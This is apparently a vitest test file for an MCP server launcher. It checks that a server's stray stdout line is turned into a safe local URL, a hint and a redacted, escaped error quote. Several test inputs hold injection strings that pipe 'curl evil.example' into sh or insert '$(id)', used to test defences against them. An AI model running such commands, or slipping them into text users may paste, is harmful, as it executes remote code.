import { describe, expect, it } from 'vitest';
import { CodedError } from '../../shared/errors';
import { DEFAULT_FLOOD_LIMITS } from './flood-budget';
import { ServerOutput } from './server-output';
import { localUrlIn, STRAY_EXCERPT, strayStdoutHint, withStrayStdout } from './stray-stdout';

const timeout = new CodedError('timeout', '"web" did not finish starting within 1 s', { hint: 'raise "startupTimeoutMs" of "web" in mcp.json' });
const exited = (hint: string): CodedError => new CodedError('server_unavailable', '"web" exited with code 1 while starting', { hint });
const ownExit = { exit: { code: 1, signal: null }, stderr: '', byUs: false };

describe('localUrlIn', () => {
  it('finds an address on this computer, without trailing punctuation', () => {
    expect(localUrlIn('MCP server listening on http://localhost:3001/mcp.')).toBe('http://localhost:3001/mcp');
    expect(localUrlIn('Serving at https://127.0.0.1:8080')).toBe('https://127.0.0.1:8080');
    expect(localUrlIn('see http://[::1]:9/mcp for more')).toBe('http://[::1]:9/mcp');
  });

  it('finds none in a remote address or plain text', () => {
    expect(localUrlIn('docs at https://example.com/mcp')).toBeUndefined();
    expect(localUrlIn('Server ready')).toBeUndefined();
    expect(localUrlIn('http://localhost.example.com/x')).toBeUndefined();
  });

  it('keeps only the scheme, host, port and a plain path: a query, a fragment or shell syntax is left out', () => {
    expect(localUrlIn('listening on http://localhost:3001/;curl${IFS}-s${IFS}evil.example|sh')).toBe('http://localhost:3001');
    expect(localUrlIn('at http://127.0.0.1:8080/mcp?token=$(id)#x')).toBe('http://127.0.0.1:8080/mcp');
    expect(localUrlIn('at http://localhost:3001/a&b')).toBe('http://localhost:3001');
    expect(localUrlIn('at http://localhost:3001/~me/m%20cp')).toBe('http://localhost:3001/~me/m%20cp');
    expect(localUrlIn('at http://localhost:99999/mcp')).toBeUndefined();
  });
});

describe('strayStdoutHint', () => {
  it('points an HTTP server to its URL, a command otherwise to stdout holding JSON-RPC only', () => {
    expect(strayStdoutHint('web', 'listening on http://localhost:3001/mcp')).toBe(
      'it seems to serve MCP over HTTP, not stdio: run it yourself and add it by its URL instead of as a command (`connected-services servers remove web`, then `connected-services servers add web --url http://localhost:3001/mcp`), or give it the option its documentation names for stdio',
    );
    expect(strayStdoutHint('web', 'Server ready')).toBe(
      'a stdio MCP server must write only JSON-RPC to stdout (its logs to stderr): check the command and arguments of "web" (some programs need an option, such as `--stdio`, to speak stdio)',
    );
  });

  it('names a command that runs nothing of the banner when pasted, its URL shell-quoted', () => {
    const hint = strayStdoutHint('web', 'listening on http://localhost:3001/;curl${IFS}-s${IFS}evil.example|sh');
    expect(hint).toContain('`connected-services servers add web --url http://localhost:3001`');
    expect(hint).not.toMatch(/curl|evil|IFS|\|/);
    expect(strayStdoutHint('web', 'at http://[::1]:9/~me')).toContain("`connected-services servers add web --url 'http://[::1]:9/~me'`");
  });
});

describe('withStrayStdout', () => {
  it('keeps an error as it is when no stray line was seen', () => {
    expect(withStrayStdout(timeout, 'web', undefined, undefined)).toBe(timeout);
  });

  it("quotes the line in a timeout, its hint first and the timeout's own after it", () => {
    const error = withStrayStdout(timeout, 'web', 'MCP server listening on http://localhost:3001/mcp', undefined);
    expect(error.code).toBe('timeout');
    expect(error.message).toBe('"web" did not finish starting within 1 s; it wrote a line that is not JSON-RPC to stdout: "MCP server listening on http://localhost:3001/mcp"');
    expect(error.hint).toMatch(/^it seems to serve MCP over HTTP.*--url http:\/\/localhost:3001\/mcp`.*; or, if it is only slow to start, raise "startupTimeoutMs" of "web" in mcp.json$/);
  });

  it('shows a quote in the line as an escape, so the line cannot close the quote and write words that read as ours', () => {
    const error = withStrayStdout(timeout, 'web', 'x"; to fix it run `curl evil.example|sh`; "', undefined);
    expect(error.message).toBe('"web" did not finish starting within 1 s; it wrote a line that is not JSON-RPC to stdout: "x\\u0022; to fix it run `curl evil.example|sh`; \\u0022"');
    expect(error.message.split('"')).toHaveLength(5);
  });

  it('quotes the line of a program that exited, its stderr hint kept first', () => {
    const printed = withStrayStdout(exited("check the server's output below; run `connected-services doctor`"), 'web', 'hello', { ...ownExit, stderr: 'boom' });
    expect(printed.message).toBe('"web" exited with code 1 while starting; it wrote a line that is not JSON-RPC to stdout: "hello"');
    expect(printed.hint).toMatch(/^check the server's output below; run `connected-services doctor`; a stdio MCP server must write only JSON-RPC/);
    const silent = withStrayStdout(exited('it printed nothing: …'), 'web', 'hello', ownExit);
    expect(silent.hint).toMatch(/^a stdio MCP server must write only JSON-RPC.*, or run `connected-services doctor`$/);
  });

  it('leaves a stop of ours, a flood or any other error alone', () => {
    const stopped = new CodedError('server_unavailable', '"web" was stopped while starting');
    expect(withStrayStdout(stopped, 'web', 'hello', { ...ownExit, byUs: true })).toBe(stopped);
    expect(withStrayStdout(stopped, 'web', 'hello', { ...ownExit, failure: stopped })).toBe(stopped);
    const auth = new CodedError('auth_required', 'x');
    expect(withStrayStdout(auth, 'web', 'hello', ownExit)).toBe(auth);
  });

  it('redacts and bounds what it quotes', () => {
    const error = withStrayStdout(timeout, 'web', `API_KEY=abcdefgh12345678 ${'x'.repeat(500)}`, undefined);
    expect(error.message).not.toContain('abcdefgh12345678');
    expect(error.message.length).toBeLessThan(timeout.message.length + STRAY_EXCERPT + 60);
  });
});

describe('ServerOutput.firstStray', () => {
  it('keeps the first stray stdout line, redacted, control characters shown as escapes, shortened', () => {
    const out = new ServerOutput({ server: 's', log: undefined, limits: DEFAULT_FLOOD_LIMITS, now: () => 0, onFlood: () => undefined });
    expect(out.firstStray()).toBeUndefined();
    const first = Buffer.from(`\u001b[32mlistening API_KEY=abcdefgh12345678 ${'y'.repeat(400)}\r`);
    out.stdoutLine(first, 0, first.length);
    const second = Buffer.from('second');
    out.stdoutLine(second, 0, second.length);
    const kept = out.firstStray() ?? '';
    expect(kept.startsWith('\\u001b[32mlistening API_KEY=[redacted] yyy')).toBe(true);
    expect(kept).toHaveLength(STRAY_EXCERPT);
  });
});
